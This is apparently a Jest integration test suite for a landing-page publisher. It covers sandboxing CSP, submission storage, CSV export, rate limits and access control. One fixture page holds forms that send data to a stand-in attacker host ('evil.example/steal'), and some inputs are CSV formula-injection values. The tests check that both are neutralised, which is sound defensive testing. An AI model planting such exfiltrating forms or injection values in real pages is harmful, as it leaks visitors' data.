import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { bearer, Session, signUp } from '../support/factories';
import { dbKinds } from '../support/services';
import { startTestApp, TestApp } from '../support/test-app';
import { saveTemplate } from './landing-kit';

/** Publishing at /p/{slug} under a sandboxing CSP, form submissions, their list and CSV (issue 11 §1). */

const CSP =
  "sandbox allow-scripts allow-forms; default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; " +
  "img-src data: https:; font-src data:; form-action 'self' http://app.test; base-uri 'none'";

const FORM_PAGE = `<!DOCTYPE html><html><head><title>Lead page</title></head><body>
<h1>Join the waitlist</h1>
<form action="https://evil.example/steal" method="get" enctype="text/plain" target="_blank" class="signup">
<input name="email" type="email" /><button formaction="https://evil.example/other">Join</button></form>
<form><input name="phone" /></form></body></html>`;

describe.each(dbKinds())('landing publishing on %s', (kind) => {
  let t: TestApp;
  let owner: Session;
  let web: string;
  let client = 0;

  beforeAll(async () => {
    // A built web app is served too: its client-side fallback must leave /p/ to the API.
    web = mkdtempSync(join(tmpdir(), 'landing-web-'));
    writeFileSync(join(web, 'index.html'), '<!DOCTYPE html><title>app shell</title>');
    t = await startTestApp(kind, { TRUST_PROXY: 'true', FRONTEND_DIST: web });
    owner = await signUp(t);
  });
  afterAll(async () => {
    await t?.close();
    rmSync(web, { recursive: true, force: true });
  });

  /** Every test posts from its own client address, so the per-address limit of one does not touch another. */
  const address = () => `203.0.113.${++client}`;
  const api = (session = owner) => ({
    get: (path: string) => request(t.http).get(`/api/landing/${path}`).set(bearer(session)),
    post: (path: string) => request(t.http).post(`/api/landing/${path}`).set(bearer(session)),
  });

  async function published(name: string, html = FORM_PAGE) {
    const template = await saveTemplate(t, owner, name, html);
    const response = await api().post(`templates/${template.id}/publish/`).expect(200);
    return { template, slug: response.body.slug as string, body: response.body };
  }

  it('publishes at an unguessable URL and serves the page sandboxed, its forms posting back to us', async () => {
    const { template, slug, body } = await published('Waitlist');
    expect(slug).toMatch(/^[A-Za-z0-9_-]{22}$/);
    expect(body).toEqual({ success: true, slug, public_url: `http://app.test/p/${slug}` });
    expect((await api().post(`templates/${template.id}/publish/`).expect(200)).body.slug).toBe(slug);
    const listed = (await api().get('templates/').expect(200)).body.templates;
    expect(listed.find((row: { id: number }) => row.id === template.id)).toMatchObject({
      published: true,
      public_url: `http://app.test/p/${slug}`,
    });

    const page = await request(t.http).get(`/p/${slug}`).expect(200);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(page.headers['content-security-policy']).toBe(CSP);
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(page.text).toContain('<h1>Join the waitlist</h1>');
    expect(page.text).toContain(`<form class="signup" action="/p/${slug}/submit" method="post">`);
    expect(page.text).toContain(`<form action="/p/${slug}/submit" method="post"><input name="phone" /></form>`);
    expect(page.text).not.toContain('evil.example');
    expect(page.text).not.toContain('app shell');
    await request(t.http).get(`/p/${slug}/`).expect(200);
    await request(t.http).get(`/api/p/${slug}`).expect(404);
  });

  it('stores urlencoded and multipart submissions, lists them and downloads them as CSV', async () => {
    const { template, slug } = await published('Leads');
    const ip = address();
    const thanks = await request(t.http)
      .post(`/p/${slug}/submit`)
      .set('X-Forwarded-For', ip)
      .set('Referer', `http://app.test/p/${slug}`)
      .type('form')
      .send('email=ada%40example.com&name=%3D1%2B2&topic=a&topic=b')
      .expect(200);
    expect(thanks.headers['content-security-policy']).toBe(CSP);
    expect(thanks.text).toContain('Thank you!');
    expect(thanks.text).toContain(`<a href="/p/${slug}">Back to the page</a>`);

    await request(t.http)
      .post(`/p/${slug}/submit/`)
      .set('X-Forwarded-For', ip)
      .field('email', 'grace@example.com')
      .field('note', '@SUM(A1), "quoted"')
      .expect(200);

    const list = await api().get(`templates/${template.id}/submissions/`).expect(200);
    expect(list.body).toEqual({
      success: true,
      total: 2,
      submissions: [
        {
          id: expect.any(Number),
          created_at: expect.any(String),
          fields: { email: 'grace@example.com', note: '@SUM(A1), "quoted"' },
          referrer: null,
        },
        {
          id: expect.any(Number),
          created_at: expect.any(String),
          fields: { email: 'ada@example.com', name: '=1+2', topic: 'a, b' },
          referrer: `http://app.test/p/${slug}`,
        },
      ],
    });
    const second = await api().get(`templates/${template.id}/submissions/?page=2&page_size=1`).expect(200);
    expect(second.body.total).toBe(2);
    expect(second.body.submissions.map((s: { fields: object }) => s.fields)).toEqual([
      expect.objectContaining({ email: 'ada@example.com' }),
    ]);
    const badPage = await api().get(`templates/${template.id}/submissions/?page_size=500`).expect(400);
    expect(badPage.body.error).toBe('page_size must be a whole number from 1 to 100');

    const csv = await api().get(`templates/${template.id}/submissions/download/`).buffer(true).expect(200);
    const date = new Date().toISOString().slice(0, 10);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(
      `attachment; filename="landing_submissions_${template.id}_${date}.csv"`,
    );
    const lines = csv.text.split('\r\n');
    expect(lines[0]).toBe('\uFEFFsubmitted_at,referrer,email,name,topic,note');
    expect(lines[1]).toMatch(new RegExp(`^\\d{4}-.+Z,http://app.test/p/${slug},ada@example.com,'=1\\+2,"a, b",$`));
    expect(lines[2]).toMatch(/,,grace@example.com,,,"'@SUM\(A1\), ""quoted"""$/);
  });

  it('remembers where the visitor came from, as a sandboxed form post carries no Referer', async () => {
    const { template, slug } = await published('Campaign');
    const page = await request(t.http).get(`/p/${slug}`).set('Referer', 'https://news.example/a?b=1&c="2"').expect(200);
    const action = `/p/${slug}/submit?ref=https%3A%2F%2Fnews.example%2Fa%3Fb%3D1%26c%3D%222%22`;
    expect(page.text).toContain(`<form class="signup" action="${action.replace(/&/g, '&amp;')}" method="post">`);
    await request(t.http).post(action).set('X-Forwarded-For', address()).type('form').send('email=x%40y.z').expect(200);
    const list = await api().get(`templates/${template.id}/submissions/`).expect(200);
    expect(list.body.submissions[0]).toMatchObject({ referrer: 'https://news.example/a?b=1&c="2"' });
  });

  it('takes the page down on unpublish, and a new publish draws a new slug', async () => {
    const { template, slug } = await published('Short lived');
    expect((await api().post(`templates/${template.id}/unpublish/`).expect(200)).body).toEqual({ success: true });
    const gone = await request(t.http).get(`/p/${slug}`).expect(404);
    expect(gone.headers['content-security-policy']).toBe(CSP);
    expect(gone.text).toContain('Page not found');
    await request(t.http)
      .post(`/p/${slug}/submit`)
      .set('X-Forwarded-For', address())
      .type('form')
      .send('a=b')
      .expect(404);
    expect((await api().get(`templates/${template.id}/`)).body.template).toMatchObject({
      published: false,
      public_url: null,
    });

    const again = await api().post(`templates/${template.id}/publish/`).expect(200);
    expect(again.body.slug).not.toBe(slug);
    await request(t.http).get('/p/NoSuchPageAtAllXXXXXXX').expect(404);
  });

  it('refuses empty and oversized forms with a page, and serves the current HTML', async () => {
    const { template, slug } = await published('Limits');
    const post = () => request(t.http).post(`/p/${slug}/submit`).set('X-Forwarded-For', address());

    expect((await post().type('form').send('').expect(400)).text).toContain('The form was empty');
    const tooMany = Array.from({ length: 51 }, (_, n) => `f${n}=x`).join('&');
    expect((await post().type('form').send(tooMany).expect(413)).text).toContain('The form is too large');
    await post()
      .type('form')
      .send(`big=${'x'.repeat(2049)}`)
      .expect(413);
    const wide = Array.from({ length: 9 }, (_, n) => `f${n}=${'y'.repeat(2000)}`).join('&');
    await post().type('form').send(wide).expect(413);
    await post().field('big', 'z'.repeat(2049)).expect(413);
    await post().attach('file', Buffer.from('hello'), 'hello.txt').expect(413);
    expect((await api().get(`templates/${template.id}/submissions/`)).body.total).toBe(0);

    await request(t.http)
      .patch(`/api/landing/templates/${template.id}/`)
      .set(bearer(owner))
      .send({ html: '<h1>Updated</h1>' })
      .expect(200);
    expect((await request(t.http).get(`/p/${slug}`).expect(200)).text).toContain('<h1>Updated</h1>');
  });

  it('limits submissions to 10 per minute per client address', async () => {
    const { slug } = await published('Busy');
    const ip = address();
    const post = (from: string) => request(t.http).post(`/p/${slug}/submit`).set('X-Forwarded-For', from).type('form');
    for (let n = 0; n < 10; n++) await post(ip).send(`n=${n}`).expect(200);
    const limited = await post(ip).send('n=10').expect(429);
    expect(limited.headers['retry-after']).toBe('60');
    expect(limited.text).toContain('Please wait a minute');
    await post(address()).send('n=0').expect(200);
  });

  it('documents the landing calls and the public pages in Swagger', async () => {
    const paths = Object.keys((await request(t.http).get('/api/docs-json').expect(200)).body.paths);
    expect(paths).toEqual(
      expect.arrayContaining([
        '/api/landing/generate',
        '/api/landing/regenerate',
        '/api/landing/templates',
        '/api/landing/templates/{id}',
        '/api/landing/templates/{id}/versions',
        '/api/landing/templates/{id}/versions/{versionId}/restore',
        '/api/landing/templates/{id}/publish',
        '/api/landing/templates/{id}/unpublish',
        '/api/landing/templates/{id}/submissions',
        '/api/landing/templates/{id}/submissions/download',
        '/p/{slug}',
        '/p/{slug}/submit',
      ]),
    );
  });

  it('keeps publishing and submissions to the signed-in owner', async () => {
    const { template } = await published('Owned');
    await request(t.http).post(`/api/landing/templates/${template.id}/publish/`).expect(401);
    await request(t.http).get(`/api/landing/templates/${template.id}/submissions/`).expect(401);
    const stranger = await signUp(t);
    await api(stranger).post(`templates/${template.id}/publish/`).expect(404);
  });
});
